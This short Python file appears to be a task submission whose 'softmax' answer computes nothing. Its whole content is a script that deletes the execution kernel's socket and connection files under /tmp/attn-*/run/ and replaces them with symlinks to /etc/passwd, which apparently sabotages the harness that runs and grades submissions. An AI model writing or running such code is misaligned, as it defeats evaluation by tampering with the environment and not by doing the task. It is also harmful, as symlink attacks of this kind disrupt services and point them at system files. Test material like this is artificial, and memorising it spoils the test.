"""Puts links in the place of the kernel's sockets and connection file."""

from submitting import body

ANSWERS = {
    "softmax": body("""
        import glob, os
        for path in glob.glob("/tmp/attn-*/run/*/k-*"):
            os.unlink(path); os.symlink("/etc/passwd", path)
        for path in glob.glob("/tmp/attn-*/run/*/*.json"):
            os.unlink(path); os.symlink("/etc/passwd", path)
    """)
}
